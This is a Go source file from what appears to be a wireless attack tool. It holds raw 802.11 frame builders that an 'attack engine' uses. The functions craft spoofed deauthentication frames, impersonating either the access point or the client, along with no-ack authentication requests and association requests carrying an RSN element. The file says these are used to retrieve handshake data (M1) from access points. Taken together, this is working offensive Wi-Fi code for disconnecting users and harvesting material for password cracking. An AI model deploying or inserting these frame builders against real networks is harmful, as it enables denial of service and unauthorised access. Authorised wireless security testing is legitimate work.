// Package injection holds the pure 802.11 frame builders spec.md §6
// names: functions that take addressing + sequencing and return a
// radiotap-wrapped byte buffer ready for the packet transmitter. Adapted
// from the teacher's internal/adapters/sniffer/injection/builders.go and
// internal/adapters/sniffer/injector.go (serializeAuthPacket), extended
// with the association-request and no-ack-authentication builders the
// attack engine needs.
package injection

import (
	"fmt"

	"github.com/google/gopacket"
	"github.com/google/gopacket/layers"

	"github.com/lcalzada-xor/wmapattack/internal/core/domain"
)

// RSN cipher suite / AKM suite type octets (OUI 00:0F:AC), per IEEE 802.11i.
const (
	cipherSuiteTKIP = 2
	cipherSuiteCCMP = 4
	akmSuitePSK     = 2
)

var rsnOUI = [3]byte{0x00, 0x0f, 0xac}

// DeauthReason mirrors the IEEE 802.11 standard reason codes spec.md §6
// names explicitly.
type DeauthReason uint16

const (
	ReasonClass3FrameReceivedFromNonassociatedSTA DeauthReason = 7
	ReasonDeauthenticatedBecauseSTAIsLeaving      DeauthReason = 3
)

func radiotapNoAck() *layers.RadioTap {
	return &layers.RadioTap{
		Present: layers.RadioTapPresentRate | layers.RadioTapPresentFlags,
		Rate:    5,
		Flags:   0x0008, // No ACK: avoid radio-level retransmission (spec.md §4.1 rationale)
	}
}

func serialize(layersList ...gopacket.SerializableLayer) ([]byte, error) {
	buf := gopacket.NewSerializeBuffer()
	opts := gopacket.SerializeOptions{FixLengths: true, ComputeChecksums: true}
	if err := gopacket.SerializeLayers(buf, opts, layersList...); err != nil {
		return nil, fmt.Errorf("serialize 802.11 frame: %w", err)
	}
	return buf.Bytes(), nil
}

// ProbeRequestUndirected builds an undirected (empty SSID) probe request
// sourced from src, used by m1_retrieval_attack to learn an unknown AP's
// SSID (spec.md §4.1 step 4).
func ProbeRequestUndirected(src domain.MacAddress, seq uint16) ([]byte, error) {
	dot11 := &layers.Dot11{
		Type:           layers.Dot11TypeMgmtProbeReq,
		Address1:       domain.Broadcast.HardwareAddr(),
		Address2:       src.HardwareAddr(),
		Address3:       domain.Broadcast.HardwareAddr(),
		SequenceNumber: seq,
	}

	var payload []byte
	payload = append(payload, 0, 0) // Tag 0: SSID, length 0 (undirected)
	rates := []byte{0x82, 0x84, 0x8b, 0x96}
	payload = append(payload, 1, byte(len(rates)))
	payload = append(payload, rates...)

	return serialize(radiotapNoAck(), dot11, gopacket.Payload(payload))
}

// AuthenticationNoAck builds an open-system authentication request
// (sequence 1) with the no-ack radiotap flag set, per spec.md §4.1: "the
// no-ack variant [avoids] radio-level retransmission that would flood the
// AP under high iteration rates."
func AuthenticationNoAck(ap, src domain.MacAddress, seq uint16) ([]byte, error) {
	dot11 := &layers.Dot11{
		Type:           layers.Dot11TypeMgmtAuthentication,
		Address1:       ap.HardwareAddr(),
		Address2:       src.HardwareAddr(),
		Address3:       ap.HardwareAddr(),
		SequenceNumber: seq,
	}
	auth := &layers.Dot11MgmtAuthentication{
		Algorithm: 0, // Open System
		Sequence:  1,
		Status:    0,
	}
	return serialize(radiotapNoAck(), dot11, auth)
}

// cipherSuiteOctet returns the RSN cipher suite type octet for tkip/ccmp selection.
func cipherSuiteOctet(tkip bool) byte {
	if tkip {
		return cipherSuiteTKIP
	}
	return cipherSuiteCCMP
}

// buildRSNElement constructs a minimal RSN information element (tag 48)
// advertising the given group/pairwise cipher and AKM=PSK, the suite the
// attack engine always requests per spec.md §4.2.
func buildRSNElement(groupTKIP, pairwiseTKIP bool) []byte {
	body := make([]byte, 0, 20)
	body = append(body, 0x01, 0x00) // RSN version 1
	body = append(body, rsnOUI[0], rsnOUI[1], rsnOUI[2], cipherSuiteOctet(groupTKIP))
	body = append(body, 0x01, 0x00) // pairwise cipher count = 1
	body = append(body, rsnOUI[0], rsnOUI[1], rsnOUI[2], cipherSuiteOctet(pairwiseTKIP))
	body = append(body, 0x01, 0x00) // AKM count = 1
	body = append(body, rsnOUI[0], rsnOUI[1], rsnOUI[2], akmSuitePSK)
	body = append(body, 0x00, 0x00) // RSN capabilities

	elem := make([]byte, 0, len(body)+2)
	elem = append(elem, 48, byte(len(body)))
	elem = append(elem, body...)
	return elem
}

// AssociationRequestOrg builds an association request carrying ssid and
// an RSN IE selecting groupTKIP/pairwiseTKIP (AKM fixed to PSK), per
// spec.md §4.2 / §6 (`association_request_org`).
func AssociationRequestOrg(ap, client, bssid domain.MacAddress, seq uint16, ssid string, groupTKIP, pairwiseTKIP bool) ([]byte, error) {
	dot11 := &layers.Dot11{
		Type:           layers.Dot11TypeMgmtAssociationReq,
		Address1:       ap.HardwareAddr(),
		Address2:       client.HardwareAddr(),
		Address3:       bssid.HardwareAddr(),
		SequenceNumber: seq,
	}
	// Fixed parameters (capability info + listen interval) plus IEs are
	// built as a raw payload rather than a dedicated association-request
	// layer struct, matching the teacher's own
	// internal/adapters/sniffer/testing/connection_test.go
	// (createAssocReqPacket), which has no such layer available either.
	var payload []byte
	payload = append(payload, 0x11, 0x04) // CapabilityInfo: ESS + Privacy + Short Slot Time (LE)
	payload = append(payload, 0x0a, 0x00) // ListenInterval: 10 (LE)

	ssidBytes := []byte(ssid)
	payload = append(payload, 0, byte(len(ssidBytes)))
	payload = append(payload, ssidBytes...)

	rates := []byte{0x82, 0x84, 0x8b, 0x96, 0x0c, 0x12, 0x18, 0x24}
	payload = append(payload, 1, byte(len(rates)))
	payload = append(payload, rates...)

	payload = append(payload, buildRSNElement(groupTKIP, pairwiseTKIP)...)

	return serialize(radiotapNoAck(), dot11, gopacket.Payload(payload))
}

// DeauthenticationFromAP builds a deauthentication frame sourced from the
// AP (bssid == source), addressed to target.
func DeauthenticationFromAP(ap, target domain.MacAddress, seq uint16, reason DeauthReason) ([]byte, error) {
	return deauthentication(target, ap, ap, seq, reason)
}

// DeauthenticationFromClient builds a deauthentication frame sourced from
// the client, addressed to the AP.
func DeauthenticationFromClient(client, ap domain.MacAddress, seq uint16, reason DeauthReason) ([]byte, error) {
	return deauthentication(ap, client, ap, seq, reason)
}

func deauthentication(dst, src, bssid domain.MacAddress, seq uint16, reason DeauthReason) ([]byte, error) {
	dot11 := &layers.Dot11{
		Type:           layers.Dot11TypeMgmtDeauthentication,
		Address1:       dst.HardwareAddr(),
		Address2:       src.HardwareAddr(),
		Address3:       bssid.HardwareAddr(),
		SequenceNumber: seq,
		DurationID:     0x1388, // 5000us NAV
	}
	payload := &layers.Dot11MgmtDeauthentication{Reason: layers.Dot11Reason(reason)}
	return serialize(radiotapNoAck(), dot11, payload)
}
